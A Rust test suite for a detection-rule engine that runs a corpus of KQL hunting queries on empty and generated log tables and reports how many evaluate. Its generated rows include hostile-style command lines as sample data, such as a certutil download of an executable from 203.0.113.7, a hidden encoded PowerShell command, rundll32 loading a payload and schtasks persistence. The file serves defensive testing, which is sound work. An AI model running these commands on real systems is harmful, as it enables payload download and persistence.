//! Evaluates every corpus query that parses, with the profile its source implies (Sentinel
//! content -> `sentinel`, Defender hunting -> `defender`), twice: on empty tables, and on
//! small generated tables (5 deterministic rows per table the query reads that the schema
//! knows, a plausible value of the column's type in every cell).
//!
//! No evaluation may panic, and every error must be one a user can act on: an unsupported
//! feature named as `not supported: X`, a limit, an unknown name, something that needs a
//! live workspace, a bad argument to a function. Anything else is an internal error and
//! fails the suite. It prints the share of queries that evaluate completely, the top
//! unsupported features and the other errors by class, and fails if a share drops below
//! its floor.

use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::Once;
use std::time::{Duration, Instant};

use rulelab::evaluate::{EvaluateOptions, Evaluation, Workspace};
use rulelab::kql::ast::ExprKind;
use rulelab::kql::schema::{Profile, Schema};
use rulelab::value::ScalarType;
use rulelab::{LanguageHint, Rule};
use rulelab_tests::{read_jsonl, shared_dir};
use serde_json::{json, Map, Value as Json};

/// `now()` and `ago()` count from here; generated datetimes lie in the hour before it.
const NOW: &str = "2026-11-24T12:00:00Z";
/// Low enough that a runaway `range` or join stops quickly in a debug build.
const MAX_ROWS: usize = 100_000;
/// Rows per generated table.
const ROWS: usize = 5;

/// Floors for the share of parsing queries that evaluate completely (percent). Raise them
/// when the evaluator learns more; a drop below them fails the suite.
const FLOOR_EMPTY: f64 = 85.0;
const FLOOR_GENERATED: f64 = 84.0;

thread_local! {
    /// The message and place of the last panic on this thread, recorded by the panic hook.
    static LAST_PANIC: RefCell<Option<String>> = const { RefCell::new(None) };
}

struct Query {
    id: String,
    file: &'static str,
    line: usize,
    text: String,
    profile: Profile,
}

#[derive(Clone, Debug, PartialEq)]
enum Outcome {
    Complete,
    Error(String),
    Panic(String),
}

#[test]
fn evaluate_the_corpus() {
    let Some(shared) = shared_dir() else { return };
    let mut queries = Vec::new();
    for (file, profile) in [
        ("sentinel.jsonl", Profile::Sentinel),
        ("defender-hunting.jsonl", Profile::Defender),
    ] {
        for (i, record) in read_jsonl(&shared.join("corpus/kql").join(file))
            .into_iter()
            .enumerate()
        {
            queries.push(Query {
                id: record["id"].as_str().unwrap_or_default().to_string(),
                file,
                line: i + 1,
                text: record["query"].as_str().unwrap_or_default().to_string(),
                profile,
            });
        }
    }
    assert_eq!(queries.len(), 3511, "the corpus has 3,511 queries");

    // The evaluator recurses over the tree; give a debug build the room a release build
    // has without it.
    let report = std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || run(&queries))
        .expect("spawn the evaluation thread")
        .join()
        .expect("the evaluation thread");
    println!("{}", report.text);
    // The panic hook is quiet while queries run, so list the failures here too.
    for failure in &report.failures {
        println!("FAILED {failure}");
    }
    assert!(
        report.failures.is_empty(),
        "{} panics or internal errors:\n{}",
        report.failures.len(),
        report.failures.join("\n")
    );
    assert!(
        report.share_empty >= FLOOR_EMPTY,
        "share evaluating completely on empty tables fell to {:.1}% (floor {FLOOR_EMPTY}%)",
        report.share_empty
    );
    assert!(
        report.share_generated >= FLOOR_GENERATED,
        "share evaluating completely on generated tables fell to {:.1}% (floor {FLOOR_GENERATED}%)",
        report.share_generated
    );
}

struct Report {
    text: String,
    failures: Vec<String>,
    share_empty: f64,
    share_generated: f64,
}

fn run(queries: &[Query]) -> Report {
    record_panics();
    // `RULELAB_TRACE=1` names each query before it runs: the way to find one that aborts
    // the process (a stack overflow cannot be caught).
    let trace = std::env::var_os("RULELAB_TRACE").is_some();
    let started = Instant::now();
    let mut parsed = 0;
    let mut outcomes: Vec<(usize, Outcome, Outcome)> = Vec::new();
    let mut slowest: Vec<(Duration, usize)> = Vec::new();
    for (index, query) in queries.iter().enumerate() {
        let rule = Rule::load(&query.text, LanguageHint::Kql);
        if rule.diagnostics.iter().any(|d| d.is_error()) || rule.kql.is_none() {
            continue;
        }
        parsed += 1;
        if trace {
            eprintln!("evaluating {} ({}:{})", query.id, query.file, query.line);
        }
        let schema = Schema::for_profile(query.profile);
        let tables = known_tables(&rule, &schema);
        let begun = Instant::now();
        let empty = outcome(|| {
            let mut workspace = Workspace::new(Some(query.profile));
            result_of(workspace.evaluate(&query.text, &options(query.profile)))
        });
        let generated = outcome(|| {
            let mut workspace = Workspace::new(Some(query.profile));
            let events = generated_events(&tables, &schema);
            if let Err(message) = workspace.load_events(&events, "events") {
                return Outcome::Error(format!("generated events rejected: {message}"));
            }
            result_of(workspace.evaluate(&query.text, &options(query.profile)))
        });
        slowest.push((begun.elapsed(), index));
        outcomes.push((index, empty, generated));
    }
    let elapsed = started.elapsed();

    let mut text = String::new();
    let mut failures = Vec::new();
    let _ = writeln!(
        text,
        "{} corpus queries, {parsed} parse without errors; evaluated twice each in {:.1} s",
        queries.len(),
        elapsed.as_secs_f64()
    );
    let mut shares = [0.0; 2];
    for (side, name) in ["empty tables", "generated tables"].into_iter().enumerate() {
        let mut complete = 0;
        let mut unsupported: BTreeMap<String, usize> = BTreeMap::new();
        let mut classes: BTreeMap<&'static str, (usize, String)> = BTreeMap::new();
        for (index, empty, generated) in &outcomes {
            let outcome = if side == 0 { empty } else { generated };
            let query = &queries[*index];
            if trace {
                if let Outcome::Error(message) | Outcome::Panic(message) = outcome {
                    eprintln!("{name}\t{}:{}\t{message}", query.file, query.line);
                }
            }
            match outcome {
                Outcome::Complete => complete += 1,
                Outcome::Error(message) => match classify(message) {
                    Class::Unsupported(feature) => *unsupported.entry(feature).or_default() += 1,
                    Class::Known(class) => {
                        let entry = classes.entry(class).or_insert((0, message.clone()));
                        entry.0 += 1;
                    }
                    Class::Internal => failures.push(format!(
                        "{name}: internal error in {} ({}:{}): {message}",
                        query.id, query.file, query.line
                    )),
                },
                Outcome::Panic(message) => failures.push(format!(
                    "{name}: panic in {} ({}:{}): {message}",
                    query.id, query.file, query.line
                )),
            }
        }
        let share = 100.0 * complete as f64 / parsed.max(1) as f64;
        shares[side] = share;
        let not_supported: usize = unsupported.values().sum();
        let _ = writeln!(
            text,
            "\non {name}: {complete} of {parsed} evaluate completely ({share:.1}%); \
             {not_supported} stop at an unsupported feature; \
             {} at another error",
            classes.values().map(|(n, _)| n).sum::<usize>()
        );
        let mut features: Vec<(&String, &usize)> = unsupported.iter().collect();
        features.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
        let _ = writeln!(
            text,
            "  not supported ({} features; top 25):",
            features.len()
        );
        for (feature, count) in features.iter().take(25) {
            let _ = writeln!(text, "    {count:5}  {feature}");
        }
        let _ = writeln!(text, "  other errors by class (count, an example):");
        for (class, (count, example)) in &classes {
            let _ = writeln!(text, "    {count:5}  {class:<28} {}", one_line(example));
        }
    }
    slowest.sort_by_key(|b| std::cmp::Reverse(b.0));
    let _ = writeln!(text, "\nslowest queries (both evaluations):");
    for (duration, index) in slowest.iter().take(5) {
        let q = &queries[*index];
        let _ = writeln!(
            text,
            "  {:8.1} ms  {} ({}:{})",
            duration.as_secs_f64() * 1000.0,
            q.id,
            q.file,
            q.line
        );
    }
    let _ = writeln!(
        text,
        "\n{} passed, {} failed",
        2 * outcomes.len() - failures.len(),
        failures.len()
    );
    Report {
        text,
        failures,
        share_empty: shares[0],
        share_generated: shares[1],
    }
}

fn options(profile: Profile) -> EvaluateOptions {
    EvaluateOptions {
        language: LanguageHint::Kql,
        profile: Some(profile),
        now: Some(NOW.to_string()),
        max_rows: MAX_ROWS,
        ..EvaluateOptions::default()
    }
}

fn outcome(evaluate: impl FnOnce() -> Outcome) -> Outcome {
    match catch_unwind(AssertUnwindSafe(evaluate)) {
        Ok(outcome) => outcome,
        Err(_) => Outcome::Panic(
            LAST_PANIC
                .with(|last| last.borrow_mut().take())
                .unwrap_or_else(|| "(unknown panic)".to_string()),
        ),
    }
}

/// Installs (once) a panic hook that keeps each panic's message and place for [`outcome`]
/// instead of printing it.
fn record_panics() {
    static HOOK: Once = Once::new();
    HOOK.call_once(|| {
        std::panic::set_hook(Box::new(|info| {
            let place = info
                .location()
                .map(|l| format!(" at {}:{}", l.file(), l.line()))
                .unwrap_or_default();
            let message = if let Some(s) = info.payload().downcast_ref::<&str>() {
                (*s).to_string()
            } else if let Some(s) = info.payload().downcast_ref::<String>() {
                s.clone()
            } else {
                "(no message)".to_string()
            };
            LAST_PANIC.with(|last| *last.borrow_mut() = Some(format!("{message}{place}")));
        }));
    });
}

fn result_of(evaluation: Evaluation) -> Outcome {
    match evaluation {
        Evaluation::Kql(kql) => match kql.error {
            None => Outcome::Complete,
            Some(message) => Outcome::Error(message),
        },
        Evaluation::Sigma(_) => Outcome::Error("internal: the query was read as Sigma".into()),
    }
}

/// The schema's tables the query names anywhere (tables in `let`, `union`, `join` too).
fn known_tables(rule: &Rule, schema: &Schema) -> BTreeSet<String> {
    let mut tables = BTreeSet::new();
    if let Some(query) = &rule.kql {
        rulelab::kql::visit::walk_statements(&query.parsed.query.statements, &mut |expr| {
            if let ExprKind::Name(ident) = &expr.kind {
                if schema.table(&ident.name).is_some() {
                    tables.insert(ident.name.clone());
                }
            }
        });
    }
    tables
}

enum Class {
    Unsupported(String),
    Known(&'static str),
    Internal,
}

/// Sorts an error message into a user-facing class, or calls it internal.
fn classify(message: &str) -> Class {
    if let Some(feature) = message.strip_prefix("not supported: ") {
        return Class::Unsupported(one_line(feature));
    }
    let has = |words: &[&str]| words.iter().any(|w| message.contains(w));
    let class = if message.starts_with("row limit reached")
        || has(&["memory limit", "time limit", "depth limit", "size limit"])
    {
        "limit reached"
    } else if has(&["offline", "live workspace", "not available"]) {
        "needs a live workspace"
    } else if has(&["was not given", "is not a table", "does not return a table"]) {
        "unknown table"
    } else if message.starts_with("unknown name") {
        "unknown name"
    } else if message.starts_with("unknown column")
        || has(&["is not a column of the", ": no column `"])
    {
        "unknown column"
    } else if has(&[
        "is a function; call it with ()",
        "missing argument",
        "missing table argument",
        "needs an argument",
        "needs a table",
        "function body",
        "cannot return a function",
    ]) {
        "function call or definition"
    } else if message.starts_with("invalid regex") {
        "invalid regex"
    } else if message.starts_with("invalid ")
        || has(&[
            "is not a comparison",
            "must not be zero",
            "must be a non-negative number",
            "needs at least one column",
        ])
    {
        "invalid literal or argument"
    } else {
        return Class::Internal;
    };
    Class::Known(class)
}

fn one_line(text: &str) -> String {
    let line: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() > 110 {
        let cut: String = line.chars().take(107).collect();
        format!("{cut}...")
    } else {
        line
    }
}

/// `{"tables": {...}}` with [`ROWS`] rows for every table.
fn generated_events(tables: &BTreeSet<String>, schema: &Schema) -> String {
    let mut named = Map::new();
    for name in tables {
        let Some(table) = schema.table(name) else {
            continue;
        };
        let rows: Vec<Json> = (0..ROWS)
            .map(|row| {
                let mut object = Map::new();
                for column in &table.columns {
                    let value = if column.name == "Type" {
                        Json::String(name.clone())
                    } else {
                        cell(name, &column.name, column.ty, row)
                    };
                    object.insert(column.name.clone(), value);
                }
                Json::Object(object)
            })
            .collect();
        named.insert(name.clone(), Json::Array(rows));
    }
    json!({ "tables": named }).to_string()
}

/// FNV-1a, so that the rows are the same on every platform and run.
fn seed(parts: &[&str], row: usize) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for part in parts {
        for byte in part.bytes().chain([0xff]) {
            hash ^= u64::from(byte);
            hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
    hash ^ (row as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15)
}

fn pick<'a>(pool: &[&'a str], seed: u64) -> &'a str {
    pool[(seed % pool.len() as u64) as usize]
}

/// A plausible value for one cell: by type, and for strings by what the column's name says
/// it holds.
fn cell(table: &str, column: &str, ty: ScalarType, row: usize) -> Json {
    let s = seed(&[table, column], row);
    let lower = column.to_ascii_lowercase();
    match ty {
        ScalarType::Bool => Json::Bool(s.is_multiple_of(2)),
        ScalarType::Int | ScalarType::Long => {
            if lower.contains("port") {
                json!([443, 3389, 445, 80, 49152][row % 5])
            } else if lower.contains("eventid") {
                json!([4624, 4625, 4688, 4720, 1102][row % 5])
            } else {
                json!((s % 200) as i64 - 10)
            }
        }
        ScalarType::Real | ScalarType::Decimal => json!((s % 1000) as f64 / 8.0),
        ScalarType::Datetime => {
            // Within the hour before NOW: every `ago(...)` window keeps the row.
            let minutes = 1 + (s % 59) as u32;
            Json::String(format!("2026-11-24T11:{:02}:{:02}Z", 60 - minutes, row * 7))
        }
        ScalarType::Timespan => Json::String(format!("00:{:02}:{:02}", s % 60, row * 3)),
        ScalarType::Guid => Json::String(format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            s as u32,
            (s >> 32) as u16,
            (s >> 48) as u16 & 0xfff,
            row,
            s >> 16
        )),
        ScalarType::Dynamic => dynamic_cell(s, row),
        ScalarType::String => Json::String(string_cell(&lower, s, row)),
    }
}

fn dynamic_cell(s: u64, row: usize) -> Json {
    match row % 3 {
        0 => json!({
            "Name": pick(&["svchost.exe", "alice@contoso.com", "Update"], s),
            "Count": row + 1,
            "IpAddress": pick(&["10.0.0.5", "203.0.113.7"], s >> 3),
            "Tags": ["a", "b"],
            "Properties": { "Value": "x", "Enabled": true }
        }),
        1 => json!(["10.0.0.5", "powershell.exe", row]),
        _ => json!({}),
    }
}

fn string_cell(lower: &str, s: u64, row: usize) -> String {
    let has = |words: &[&str]| words.iter().any(|w| lower.contains(w));
    // One empty string per table column in 5: an unset field, as real logs have.
    if row == 4 && s.is_multiple_of(3) {
        return String::new();
    }
    let value = if has(&["sha256"]) {
        return format!("{:016x}", s).repeat(4);
    } else if has(&["sha1"]) {
        return format!("{:016x}{:016x}{:08x}", s, s.rotate_left(7), s as u32);
    } else if has(&["md5"]) {
        return format!("{:016x}{:016x}", s, s.rotate_left(13));
    } else if has(&["commandline", "command"]) {
        pick(
            &[
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
                "cmd.exe /c whoami /all",
                "rundll32.exe C:\\Windows\\Temp\\payload.dll,Start",
                "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
                "schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc minute",
            ],
            s,
        )
    } else if has(&["url", "uri"]) {
        pick(
            &[
                "https://login.microsoftonline.com/common/oauth2/token",
                "http://203.0.113.7/a.exe",
                "https://contoso.sharepoint.com/sites/hr/doc.docx",
                "https://raw.githubusercontent.com/x/y/main/z.ps1",
            ],
            s,
        )
    } else if has(&["ip", "address"]) && !has(&["mac", "mail", "description"]) {
        pick(
            &[
                "10.0.0.5",
                "192.168.1.20",
                "203.0.113.7",
                "2001:db8::1",
                "127.0.0.1",
            ],
            s,
        )
    } else if has(&["folderpath", "path", "directory"]) {
        pick(
            &[
                "C:\\Windows\\System32\\cmd.exe",
                "C:\\Users\\alice\\AppData\\Local\\Temp\\a.ps1",
                "/usr/bin/curl",
                "C:\\ProgramData\\u.exe",
            ],
            s,
        )
    } else if has(&["filename", "processname", "file", "image"]) {
        pick(
            &[
                "powershell.exe",
                "cmd.exe",
                "rundll32.exe",
                "svchost.exe",
                "invoice.docx",
            ],
            s,
        )
    } else if has(&["mail", "sender", "recipient"]) {
        pick(
            &[
                "alice@contoso.com",
                "bob@fabrikam.com",
                "noreply@contoso.com",
            ],
            s,
        )
    } else if has(&["upn", "account", "user", "caller", "identity", "principal"]) {
        pick(
            &[
                "alice@contoso.com",
                "CONTOSO\\bob",
                "svc_backup",
                "admin",
                "SYSTEM",
            ],
            s,
        )
    } else if has(&["domain", "dns", "host", "computer", "device", "machine"]) {
        pick(
            &[
                "ws-001.contoso.com",
                "dc01",
                "evil.example.net",
                "contoso.com",
            ],
            s,
        )
    } else if has(&[
        "json",
        "additional",
        "properties",
        "fields",
        "details",
        "data",
    ]) {
        pick(
            &[
                "{\"Key\":\"Value\",\"Count\":2,\"Items\":[\"a\",\"b\"]}",
                "[{\"name\":\"x\",\"value\":\"1\"}]",
                "{}",
            ],
            s,
        )
    } else if has(&[
        "actiontype",
        "operation",
        "activity",
        "eventtype",
        "category",
    ]) {
        pick(
            &[
                "ProcessCreated",
                "LogonFailed",
                "Add member to role.",
                "Sign-in activity",
                "FileCreated",
            ],
            s,
        )
    } else if has(&["result", "status", "outcome"]) {
        pick(&["Success", "Failure", "0", "50126", "Succeeded"], s)
    } else if has(&["port"]) {
        pick(&["443", "3389", "445"], s)
    } else if has(&["country", "location", "region"]) {
        pick(&["US", "DE", "Redmond, Washington, US"], s)
    } else {
        pick(&["alpha", "Beta value", "gamma-3", "Delta", "42"], s)
    };
    value.to_string()
}

#[test]
fn a_panic_is_caught_with_its_message() {
    record_panics();
    let caught = outcome(|| panic!("boom {}", 42));
    match caught {
        Outcome::Panic(message) => assert!(message.starts_with("boom 42 at "), "{message}"),
        other => panic!("expected a panic, got {other:?}"),
    }
    assert_eq!(outcome(|| Outcome::Complete), Outcome::Complete);
}

#[test]
fn errors_are_classified() {
    let class = |m: &str| match classify(m) {
        Class::Unsupported(feature) => format!("unsupported {feature}"),
        Class::Known(class) => class.to_string(),
        Class::Internal => "internal".to_string(),
    };
    assert_eq!(
        class("not supported: the `lookup` operator"),
        "unsupported the `lookup` operator"
    );
    assert_eq!(
        class("row limit reached: more than 10 rows (raise max_rows to allow more)"),
        "limit reached"
    );
    assert_eq!(class("table `Foo_CL` was not given"), "unknown table");
    assert_eq!(class("unknown name `x`"), "unknown name");
    assert_eq!(class("index out of bounds"), "internal");
    assert_eq!(class("the query has syntax errors"), "internal");
}

#[test]
fn generated_cells_have_the_column_type() {
    let schema = Schema::for_profile(Profile::Defender);
    let tables: BTreeSet<String> = ["DeviceProcessEvents".to_string()].into();
    let events = generated_events(&tables, &schema);
    let mut workspace = Workspace::new(Some(Profile::Defender));
    let loaded = workspace
        .load_events(&events, "events")
        .expect("generated events load");
    assert_eq!(loaded.len(), 1);
    assert_eq!(loaded[0].rows, ROWS);
    let query = "DeviceProcessEvents | where Timestamp > ago(1h) and isnotempty(DeviceName) \
                 | where ProcessCommandLine has_any (\"cmd.exe\", \"powershell.exe\", \"rundll32.exe\", \"certutil.exe\", \"schtasks\") \
                 | summarize count() by DeviceName";
    match workspace.evaluate(query, &options(Profile::Defender)) {
        Evaluation::Kql(result) => {
            assert_eq!(result.error, None);
            assert!(
                !result.rows.is_empty(),
                "generated rows should be recent and plausible"
            );
        }
        Evaluation::Sigma(_) => panic!("read as Sigma"),
    }
}
